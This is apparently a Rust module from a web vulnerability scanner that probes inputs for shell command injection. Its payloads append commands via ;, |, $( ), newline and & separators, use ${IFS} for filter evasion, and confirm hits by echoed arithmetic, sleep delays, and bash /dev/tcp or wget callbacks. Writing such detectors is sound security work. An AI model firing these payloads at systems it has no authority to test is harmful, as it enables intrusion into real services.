//! Command injection: by the result of a computation that the shell makes, by delays, by a connection to us.
//!
//! The product of two numbers between two words stands in no request, so that repeating the payload is no
//! hit; another product must follow from other numbers. One payload is made for no quotes, single and double
//! ones at once: each form hides the rest behind a comment.

use vedette_protocol::finding::{Confidence, FindingType, ShownBy};

use super::{Of, Test, nothing_afterwards};
use crate::web::{
    call::{Call, Place},
    input::Payload,
    trial::{Proof, Subject, Trial, Verdict},
};

pub(crate) const TEST: Test = Test {
    name: "command",
    of: Of::Input,
    budget: 40,
    judge,
    afterwards: nothing_afterwards,
};

fn judge(trial: &Trial<'_>) -> Verdict {
    for (shape, spell) in SHAPES {
        if computes(trial, |word, one, other| {
            spell(
                trial.value(),
                &format!("echo${{IFS}}{word}$(({one}*{other})){word}"),
            )
        })? {
            return Ok(Some(proof(Confidence::Certain, ShownBy::ComputedOutput, shape)));
        }
    }
    if computes_on_windows(trial)? {
        return Ok(Some(proof(
            Confidence::Certain,
            ShownBy::ComputedOutput,
            "cmd.exe",
        )));
    }
    for (shape, spell) in SHAPES.iter().filter(|(shape, _)| *shape != "background") {
        if trial.delays(|seconds| spell(trial.value(), &format!("sleep${{IFS}}{seconds}")))? {
            return Ok(Some(proof(Confidence::Firm, ShownBy::Delay, shape)));
        }
    }
    Ok(None)
}

/// For commands whose output nobody sees and nobody waits for.
pub(super) fn calls(subject: &Subject) -> Vec<Call> {
    let call = |(shape, spell): &(&'static str, Spell)| {
        let (spell, between) = (*spell, joint(shape));
        let (value, left_alone) = (subject.value.clone(), subject.value.clone());
        Call::new(
            proof(Confidence::Certain, ShownBy::Callback, shape),
            move |place| Payload::Value(spell(&value, &programs(place).join(between))),
            // Words for the program that is run already.
            move |place| Payload::Value(format!("{left_alone} {}", programs(place)[1])),
        )
    };
    let shapes = SHAPES.iter().filter(|(shape, _)| *shape != "background");
    shapes.map(call).collect()
}

/// What connects on systems with bash, and on those with busybox; they end by themselves where nobody answers.
fn programs(place: Place) -> [String; 2] {
    let port = format!("$(({}))", place.sum());
    [
        format!("timeout 3 bash -c :\\>/dev/tcp/{}/{port}", place.address()),
        format!("wget -qO- -T3 -t1 http://{}:{port}/", place.host()),
    ]
    .map(|program| program.replace(' ', "${IFS}"))
}

/// What stands between two commands: nothing that is not in the shape anyway, so that no filter is met twice.
fn joint(shape: &str) -> &'static str {
    match shape {
        "pipe" => "|",
        "substitution" => ")$(",
        "line" => "\n",
        _ => ";",
    }
}

fn proof(confidence: Confidence, shown_by: ShownBy, detail: &'static str) -> Proof {
    Proof {
        type_: FindingType::WebCommandInjection,
        confidence,
        shown_by,
        detail,
    }
}

/// Whether two products come out, each from its own numbers.
fn computes(
    trial: &Trial<'_>,
    spell: impl Fn(&str, u64, u64) -> String,
) -> Result<bool, crate::web::trial::Stop> {
    for (number, (one, other)) in (20..).zip(NUMBERS) {
        let word = trial.token(number);
        let shown = format!("{word}{}{word}", one * other);
        if !trial.is_new(trial.reply(&spell(&word, one, other))?, &shown) {
            return Ok(false);
        }
    }
    Ok(true)
}

/// `set /a` prints the result without words of ours around it: the numbers are large enough to be no chance.
fn computes_on_windows(trial: &Trial<'_>) -> Result<bool, crate::web::trial::Stop> {
    for (one, other) in NUMBERS {
        let payload = format!("{}&set/a {one}*{other}&", trial.value());
        if !trial.is_new(trial.reply(&payload)?, &(one * other).to_string()) {
            return Ok(false);
        }
    }
    Ok(true)
}

/// How a command is put behind a value.
type Spell = fn(&str, &str) -> String;

const SHAPES: &[(&str, Spell)] = &[
    ("list", |value, command| {
        format!("{value};{command};#';{command};#\";{command};#")
    }),
    ("pipe", |value, command| {
        format!("{value}|{command} #'|{command} #\"|{command} #")
    }),
    ("substitution", |value, command| format!("{value}$({command})")),
    ("line", |value, command| {
        format!("{value}\n{command}\n#'\n{command}\n#\"\n{command}\n#")
    }),
    ("background", |value, command| {
        format!("{value}&{command}&#'&{command}&#\"&{command}&#")
    }),
];

const NUMBERS: [(u64, u64); 2] = [(48_271, 20_393), (39_119, 51_047)];
